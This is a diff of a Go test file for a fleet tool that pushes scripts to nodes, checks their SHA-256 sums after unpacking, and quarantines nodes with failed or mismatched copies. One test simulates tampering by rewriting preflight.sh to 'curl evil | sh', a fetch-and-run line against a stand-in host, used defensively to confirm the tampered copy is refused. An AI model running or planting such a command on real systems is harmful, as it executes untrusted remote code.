@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"regexp"
 	"strconv"
 	"strings"
 	"sync"
@@ -106,15 +107,27 @@ func TestConnectFailsOnlyTheUnreachableNode(t *testing.T) {
 	}
 }
 
-// TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush.
+// TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush: one archive
+// a node, checked, unpacked there and every script's sum read back; a node
+// whose upload fails, or whose unpacked copy is not this binary's, is
+// quarantined with the reason.
 func TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush(t *testing.T) {
-	inv := fakeInventory(t, 2, "")
+	inv := fakeInventory(t, 3, "")
 	f := fakeFleet(inv)
 	f.Host("h2").FailUploads(func(_ context.Context, p string) error {
-		if strings.HasSuffix(p, "/stage.sh") {
+		if strings.HasSuffix(p, "/"+archiveName) {
 			return errors.New("h2: upload " + p + ": sftp: no space left on device")
 		}
 		return nil
+	})
+	// h3 says its stage.sh is another file.
+	f.Host("h3").Intercept(func(c *fake.Call) (fake.Reply, bool) {
+		if !strings.Contains(c.Command, "tar -x -f "+archiveName) {
+			return fake.Reply{}, false
+		}
+		r := unpack(f.Host("h3"), c.Command)
+		r.Stdout = regexp.MustCompile(`(?m)^[0-9a-f]{64}(  stage\.sh)$`).ReplaceAllString(r.Stdout, strings.Repeat("0", 64)+"$1")
+		return r, true
 	})
 	r := runFake(t, inv, f)
 	var pushed ToolsPushed
@@ -124,15 +137,25 @@ func TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush(t *testing.T) {
 	if len(pushed.Files) != len(scripts.Pushed()) {
 		t.Fatalf("pushed %d files, want %d", len(pushed.Files), len(scripts.Pushed()))
 	}
-	for _, s := range scripts.Pushed() {
+	for i, s := range scripts.Pushed() {
 		got, ok := f.Host("h1").File(toolsDir(r.ID, "h1") + "/" + s.Name)
-		if !ok || got.SHA256 != scripts.SHA256(s.Body) {
-			t.Errorf("h1: %s not pushed intact: %+v", s.Name, got)
+		if !ok || got.SHA256 != scripts.SHA256(s.Body) || pushed.Files[i].SHA256 != got.SHA256 || pushed.Files[i].Bytes != int64(len(s.Body)) {
+			t.Errorf("h1: %s not pushed intact: %+v %+v", s.Name, got, pushed.Files[i])
 		}
 	}
+	if _, left := f.Host("h1").File(toolsDir(r.ID, "h1") + "/" + archiveName); left {
+		t.Error("h1: the archive was left after unpacking")
+	}
+	if n := f.Host("h1").Ran(`tar -x -f `); n != 1 {
+		t.Errorf("h1 unpacked %d times", n)
+	}
 	h2 := resultOf(t, r, "tools", 1)
-	if h2.Outcome != record.Failed || !strings.Contains(h2.Error, "push stage.sh") || !strings.Contains(h2.Error, "no space left") {
+	if h2.Outcome != record.Failed || !strings.Contains(h2.Error, "push the scripts") || !strings.Contains(h2.Error, "no space left") {
 		t.Errorf("h2 tools: %+v", h2)
+	}
+	h3 := resultOf(t, r, "tools", 2)
+	if h3.Outcome != record.Failed || !strings.Contains(h3.Error, "push stage.sh: the node's copy has sha256") {
+		t.Errorf("h3 tools: %+v", h3)
 	}
 	if q := r.Nodes[1]; !q.Quarantined || !strings.Contains(q.Reason, "tools failed") {
 		t.Errorf("h2 not quarantined: %+v", q)
@@ -173,11 +196,12 @@ func TestPreflightRefusesACopyThatIsNotThePushedOne(t *testing.T) {
 	answerAsStandin(f.Host("h1"), "h100")
 	answerAsStandin(f.Host("h2"), "h100")
 	// Someone on h2 rewrites preflight.sh once the push checked it.
-	f.Host("h2").Tamper(func(p string, file fake.File) fake.File {
-		if strings.HasSuffix(p, "/preflight.sh") {
-			file.Data, file.SHA256 = []byte("curl evil | sh\n"), "0badc0de"
+	h2 := f.Host("h2")
+	h2.Intercept(func(c *fake.Call) (fake.Reply, bool) {
+		if i := strings.Index(c.Command, "/preflight.sh\""); i >= 0 && strings.HasPrefix(c.Command, `f="$HOME/`) {
+			h2.Put(c.Command[len(`f="$HOME/`):i]+"/preflight.sh", []byte("curl evil | sh\n"))
 		}
-		return file
+		return fake.Reply{}, false
 	})
 	r := runFake(t, inv, f, Preflight)
 	res := resultOf(t, r, "preflight", 1)
